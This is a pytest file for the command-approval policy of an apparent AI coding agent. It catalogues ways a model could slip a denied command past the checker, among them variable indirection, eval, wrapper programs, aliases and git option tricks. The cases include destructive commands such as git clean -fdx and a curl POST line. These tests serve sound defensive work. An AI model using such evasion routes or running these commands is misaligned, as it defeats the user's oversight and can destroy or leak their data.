"""Approvals: what each mode asks about, rules on every sub-command, and the four answers."""

from __future__ import annotations

import subprocess
import threading
from concurrent.futures import Future
from pathlib import Path

import pytest
from k2text import completion, tool_call

from ponder.model.scripted import ScriptedBackend
from ponder.runtime.approvals import ApprovalAnswer, ApprovalPolicy
from ponder.runtime.events import ApprovalRequested, ApprovalResolved, Event
from ponder.runtime.loop import Agent
from ponder.runtime.port import Unattended
from ponder.runtime.shell_commands import split_commands
from ponder.sandbox.base import Sandbox
from ponder.sandbox.local_sandbox import LocalSandbox


@pytest.fixture(name="sandbox")
def _local(local_sandbox: LocalSandbox) -> LocalSandbox:
    """The loop does not depend on Docker: these tests run on the local backend, in seconds."""
    return local_sandbox


def test_commands_are_split_into_their_parts() -> None:
    def words(command: str) -> list[list[str]]:
        return [list(simple.words) for simple in split_commands(command)]

    assert words("cd src && make test | tee log; echo 'a && b'\ngit status 2>&1 >/dev/null") == [
        ["cd", "src"],
        ["make", "test"],
        ["tee", "log"],
        ["echo", "a && b"],
        ["git", "status"],
    ]
    # Commands inside other commands are judged too, after the command they are in.
    nested = "echo $(git push) `git clean -fd`; bash -c 'git reset --hard' && eval git stash drop"
    assert words(nested) == [
        ["echo", "$(git push)", "`git clean -fd`"],
        ["git", "reset", "--hard"],
        ["git", "stash", "drop"],
        ["git", "push"],
        ["git", "clean", "-fd"],
    ]


@pytest.mark.parametrize(
    ("mode", "command", "network", "expected"),
    [
        ("auto", "pytest -q && git diff", False, "allow"),
        ("auto", "pip install requests", False, "allow"),  # no network: cannot reach out
        ("auto", "pip install requests", True, "ask"),
        ("auto", "ls | curl -X POST example.com", True, "ask"),
        ("auto", "git reset --hard HEAD~1", False, "ask"),
        ("auto", "FOO=1 sudo git push origin main", False, "ask"),
        ("auto", "nohup env A=1 sh -c 'sleep 1; git push' &", False, "ask"),
        ("ask", "FOO=1", False, "allow"),  # only sets a variable
        ("auto", "git checkout -- src/app.py", False, "ask"),
        ("auto", "git checkout -b feature", False, "allow"),  # a branch: files stay
        ("auto", "git switch -c feature", False, "allow"),
        ("ask", "ls", False, "ask"),
        ("yolo", "git clean -fdx && git push --force", True, "allow"),
    ],
)
def test_what_each_mode_asks_about(mode: str, command: str, network: bool, expected: str) -> None:
    policy = ApprovalPolicy(mode=mode, network=network)  # type: ignore[arg-type]
    assert policy.check_command(command).action == expected


def test_rules_apply_to_every_sub_command() -> None:
    policy = ApprovalPolicy(mode="ask", allow=["pytest", "git status"], deny=["rm -rf"])
    assert policy.check_command("pytest -q && git status").action == "allow"
    assert policy.check_command("pytest -q && make").action == "ask"
    denied = policy.check_command("pytest -q; rm -rf /tmp/x")
    assert denied.action == "deny"
    assert "rm -rf" in denied.reason
    # Deny rules hold in yolo mode too.
    yolo = ApprovalPolicy(mode="yolo", deny=["git push"])
    assert yolo.check_command("git add . && git push").action == "deny"


# Getting around a rule. The model writes the command; these are the ways it could hide a denied
# or asked-for command from a reader that takes the first word literally.

GUARDED = ApprovalPolicy(mode="auto", deny=["rm", "git clean"])
"""``auto`` mode, with ``rm`` and ``git clean`` denied."""


def verdict(command: str, policy: ApprovalPolicy = GUARDED) -> tuple[str, str]:
    found = policy.check_command(command)
    return found.action, found.reason


def at_run_time(word: str, about: str = "whether a deny rule forbids it") -> tuple[str, str]:
    return "ask", f"the program is chosen at run time ({word}): ponder cannot tell {about}"


@pytest.mark.parametrize(
    ("command", "word"),
    [
        ("G=git; $G clean -fdx", "`$G`"),  # issue 22, item 8
        ("${G} clean -fdx", "`${G}`"),
        ('"$G" clean -fdx', "`$G`"),
        ("$(echo git) clean -fdx", "`$(echo git)`"),
        ("`echo git` clean -fdx", "``echo git``"),
        ('x="git clean -fdx"; eval "$x"', "`$x`"),
        ("{git,} clean -fdx", "`{git,}`"),  # brace expansion
        ("/usr/bin/gi? clean -fdx", "`/usr/bin/gi?`"),  # a glob
        ('f() { "$@"; }; f git clean -fdx', "`$@`"),  # a function that runs its arguments
        ("find /usr/bin -name git -exec {} clean -fdx \\;", "`{}`"),
        ("echo 'git clean -fdx' | sh", "what `sh` reads from its input"),
        ("bash <<< 'git clean -fdx'", "what `bash` reads from its input"),
        ("source <(echo git clean -fdx)", "the script `<(echo git clean -fdx)`"),
        ("env -S 'git clean -fdx'", "the words `env -S` splits"),
    ],
)
def test_a_program_chosen_at_run_time_asks(command: str, word: str) -> None:
    assert verdict(command) == at_run_time(word)
    # Without deny rules, auto mode asks all the same: it could be `git clean`.
    assert verdict(command, ApprovalPolicy(mode="auto")) == at_run_time(word, "what runs")


@pytest.mark.parametrize(
    ("command", "judged", "rule"),
    [
        ("/usr/bin/git clean -fdx", "/usr/bin/git clean -fdx", "git clean"),  # issue 22, item 8
        ("./../usr/bin/git clean -fdx", "./../usr/bin/git clean -fdx", "git clean"),
        ("/usr/lib/git-core/git-clean -fdx", "git clean -fdx", "git clean"),
        ("\\git clean -fdx", "git clean -fdx", "git clean"),
        ("g''it clean -fdx", "git clean -fdx", "git clean"),
        ('"git" "clean" -fdx', "git clean -fdx", "git clean"),
        ("/bin/rm -rf build", "/bin/rm -rf build", "rm"),
    ],
)
def test_a_program_is_known_by_its_name_however_it_is_written(
    command: str, judged: str, rule: str
) -> None:
    assert verdict(command) == ("deny", f"`{judged}` matches the deny rule `{rule}`")


def test_auto_mode_knows_git_by_name_but_allow_rules_need_the_program_as_written() -> None:
    assert verdict("/usr/bin/git reset --hard", ApprovalPolicy()) == (
        "ask",
        "`git reset --hard` can destroy work in your repository",
    )
    # `./git` may be any script: an allow rule for `git status` does not let it run.
    asking = ApprovalPolicy(mode="ask", allow=["git status"])
    assert verdict("git status", asking) == ("allow", "")
    assert verdict("./git status", asking) == ("ask", "every command is checked in ask mode")


@pytest.mark.parametrize(
    "command",
    [
        "command git clean -fdx",
        "exec git clean -fdx",
        "env -i PATH=/usr/bin git clean -fdx",
        "timeout -s KILL 5 git clean -fdx",
        "nice -n 5 git clean -fdx",
        "sudo -Eu root git clean -fdx",
        "builtin eval 'git clean -fdx'",
        "find . -maxdepth 0 -exec git clean -fdx \\;",
        "sh -c 'git clean -fdx'",
        'bash -lc "cd sub && git clean -fdx"',
        "f() { git clean -fdx; }; f",
        "function f { git clean -fdx; }",
        "trap 'git clean -fdx' EXIT",
        "shopt -s expand_aliases\nalias g='git clean'\ng -fdx",
        "{ git clean -fdx; } 2>/dev/null",
        "if true; then git clean -fdx; fi",
        'case "$1" in -f) git clean -fdx;; esac',
        'echo "$(git clean -fdx)"',
        "cat <<EOF\n$(git clean -fdx)\nEOF",
        "git -C sub clean -fdx",
        "git --git-dir=.git clean -fdx",
        "git --git-dir .git --work-tree . --no-pager clean -fdx",
        "git >/dev/null clean -fdx",
    ],
)
def test_a_command_another_command_runs_is_judged(command: str) -> None:
    action, reason = verdict(command)
    assert action == "deny"
    assert reason.endswith("` matches the deny rule `git clean`")


@pytest.mark.parametrize(
    ("command", "unknown"),
    [
        ("git $SUB -fdx", ("git $SUB -fdx", "`$SUB`")),
        ("echo clean | xargs git", ("git <what xargs reads>", "`<what xargs reads>`")),
        ("echo clean | xargs -I X git X -fdx", ("git X -fdx", "`X`")),
        (
            "git -c alias.x='clean -fdx' x",
            ("git -c alias.x=clean -fdx x", "what `-c alias.x=clean -fdx` does"),
        ),
        ("alias g=git", ("git <what follows g>", "`<what follows g>`")),
    ],
)
def test_a_word_only_known_at_run_time_asks_where_a_rule_needs_it(
    command: str, unknown: tuple[str, str]
) -> None:
    judged, word = unknown
    assert verdict(command) == (
        "ask",
        f"`{judged}` may be `git clean`, which a deny rule forbids: "
        f"{word} is only known at run time",
    )
    # Where no rule needs the word, the command runs.
    assert verdict("git log $REV")[0] == "allow"


def test_everyday_commands_still_run_without_asking() -> None:
    commands = [
        'OUT=$(make 2>&1); echo "$OUT" | tail -n 5',
        'for f in *.py; do python -m py_compile "$f"; done',
        "[ -f setup.py ] && pip install -e . || true",
        'case "$1" in test) pytest -q;; *) echo usage;; esac',
        "cat > notes.md <<'EOF'\nit's `git clean`, don't $(run) it\nEOF",
        "git -c user.name=me -c user.email=me@x commit -qm 'fix: parser'",
        "git log --oneline | head -n 3",
        "bash ./scripts/build.sh --fast",  # a script is judged by its name
        "rm -- *.pyc",
    ]
    policy = ApprovalPolicy(mode="auto", deny=["rm -rf", "git clean"])
    assert [verdict(command, policy) for command in commands] == [("allow", "")] * len(commands)


def test_yolo_asks_nothing_but_keeps_its_deny_rules() -> None:
    yolo = ApprovalPolicy(mode="yolo", deny=["git clean"])
    assert verdict("/usr/bin/git clean -fdx", yolo)[0] == "deny"
    # A program chosen at run time may be what a deny rule forbids: with nobody to ask, denied.
    assert verdict("G=git; $G clean -fdx", yolo) == (
        "deny",
        "the program is chosen at run time (`$G`): ponder cannot tell whether a deny rule "
        "forbids it",
    )
    assert verdict("G=git; $G status", ApprovalPolicy(mode="yolo")) == ("allow", "")


def test_file_tools_ask_only_in_ask_mode() -> None:
    assert ApprovalPolicy(mode="ask").check("edit", "str_replace").action == "ask"
    assert ApprovalPolicy(mode="auto").check("edit", "str_replace").action == "allow"
    assert ApprovalPolicy(mode="ask").check("read", "view").action == "allow"


class Person:
    """A run's port with someone at the keyboard: answers come from a list, a moment later,
    from another thread (as a key press would)."""

    def __init__(self, events: list[Event], *answers: ApprovalAnswer) -> None:
        self.events = events
        self.answers = list(answers)
        self.asked: list[ApprovalRequested] = []

    def event(self, event: Event) -> None:
        self.events.append(event)

    def approve(self, request: ApprovalRequested) -> Future[ApprovalAnswer]:
        self.asked.append(request)
        reply: Future[ApprovalAnswer] = Future()
        threading.Timer(0.05, reply.set_result, [self.answers.pop(0)]).start()
        return reply


def test_the_four_answers(sandbox: Sandbox, workspace: Path) -> None:
    step = completion(
        "Four commands.",
        tool_call("bash", 0, {"command": "touch once.txt"}),
        tool_call("bash", 1, {"command": "touch denied.txt"}),
        tool_call("bash", 2, {"command": "mkdir always"}),
        tool_call("bash", 3, {"command": "mkdir always/again"}),
        tool_call("bash", 4, {"command": "cp once.txt copy.txt"}),
    )
    events: list[Event] = []
    person = Person(
        events,
        ApprovalAnswer("once"),
        ApprovalAnswer("deny"),
        ApprovalAnswer("always"),
        ApprovalAnswer("deny", "use a temp dir instead"),
    )
    agent = Agent(
        ScriptedBackend([step, completion("Done.", content="ok")]),
        sandbox,
        policy=ApprovalPolicy(mode="ask"),
    )
    agent.run("make files", person)
    assert sorted(str(p.relative_to(workspace)) for p in workspace.rglob("*")) == [
        "always",
        "always/again",
        "once.txt",
    ]
    # "always" allowed `mkdir` from then on: the fourth command was not asked about.
    assert [(r.summary, r.prefix) for r in person.asked] == [
        ("touch once.txt", "touch"),
        ("touch denied.txt", "touch"),
        ("mkdir always", "mkdir"),
        ("cp once.txt copy.txt", "cp"),
    ]
    results = {m.tool_call_id: m.content for m in agent.messages if m.role == "tool"}
    assert results["functions.bash:1"] == "The user did not allow this action."
    assert results["functions.bash:4"] == (
        "The user did not allow this action. Their message: use a temp dir instead"
    )
    assert len([e for e in events if isinstance(e, ApprovalRequested)]) == 4
    assert [e.decision for e in events if isinstance(e, ApprovalResolved)] == [
        "once",
        "deny",
        "always",
        "deny",
    ]


def test_a_git_clean_hidden_in_a_variable_waits_for_the_person(
    sandbox: Sandbox, workspace: Path
) -> None:
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    (workspace / "notes.txt").write_text("not committed yet\n")
    agent = Agent(
        ScriptedBackend(
            [
                completion("Tidy.", tool_call("bash", 0, {"command": "G=git; $G clean -fdx"})),
                completion("Fine.", content="ok"),
            ]
        ),
        sandbox,
        policy=ApprovalPolicy(mode="auto", deny=["git clean"]),
    )
    person = Person([], ApprovalAnswer("deny"))
    agent.run("tidy the repository", person)
    assert [request.reason for request in person.asked] == [
        "the program is chosen at run time (`$G`): ponder cannot tell whether a deny rule "
        "forbids it"
    ]
    assert (workspace / "notes.txt").read_text() == "not committed yet\n"


def test_headless_runs_deny_what_would_ask(sandbox: Sandbox, workspace: Path) -> None:
    events: list[Event] = []
    agent = Agent(
        ScriptedBackend(
            [
                completion("Push.", tool_call("bash", 0, {"command": "git push origin main"})),
                completion("Fine.", content="ok"),
            ]
        ),
        sandbox,
        policy=ApprovalPolicy(mode="auto"),
    )
    agent.run("push it", Unattended(events.append))
    (resolved,) = [e for e in events if isinstance(e, ApprovalResolved)]
    assert (resolved.decision, resolved.by) == ("deny", "policy")
    result = next(m.content for m in agent.messages if m.role == "tool")
    assert "nobody to give it" in result
    assert "The user did not allow" not in result  # no user was asked


class Away:
    """A person who never answers."""

    def __init__(self) -> None:
        self.reply: Future[ApprovalAnswer] = Future()

    def event(self, event: Event) -> None:
        pass

    def approve(self, request: ApprovalRequested) -> Future[ApprovalAnswer]:
        return self.reply


def test_an_interrupt_stops_a_run_that_waits_for_an_approval(sandbox: Sandbox) -> None:
    agent = Agent(
        ScriptedBackend([completion("Push.", tool_call("bash", 0, {"command": "touch x"}))]),
        sandbox,
        policy=ApprovalPolicy(mode="ask"),
    )
    away = Away()
    threading.Timer(0.5, agent.interrupt).start()
    finished = agent.run("make x", away)
    assert finished.reason == "interrupted"
    assert away.reply.cancelled()  # the question is withdrawn; the frontend closes its card


def test_a_denied_command_run_through_a_program_ponder_does_not_know_is_not_run() -> None:
    # The review's routes past a deny rule: a program not on the wrapper list runs the rest of
    # its words (flock, ionice, script -c...), and git takes options in any order and as
    # prefixes of their names.
    through = [
        "flock /tmp/l git clean -fdx",
        "ionice -c3 git clean -fdx",
        "taskset 1 git clean -fdx",
        "setpriv --reuid 1000 git clean -fdx",
        "script -qc 'git clean -fdx' /dev/null",
        "git submodule foreach 'git clean -fdx'",
        "git bisect run git clean -fdx",
    ]
    for mode in ("auto", "yolo"):
        policy = ApprovalPolicy(mode=mode, deny=["git clean"])  # type: ignore[arg-type]
        for command in through:
            action, reason = verdict(command, policy)
            assert action == ("deny" if mode == "yolo" else "ask"), command
            assert "git clean" in reason, command
    auto = ApprovalPolicy(mode="auto")
    for command in ("git reset -q --hard", "git reset HEAD --hard", "git reset --har"):
        assert verdict(command, auto)[0] == "ask", command
    assert verdict("git reset --soft HEAD~1", auto) == ("allow", "")
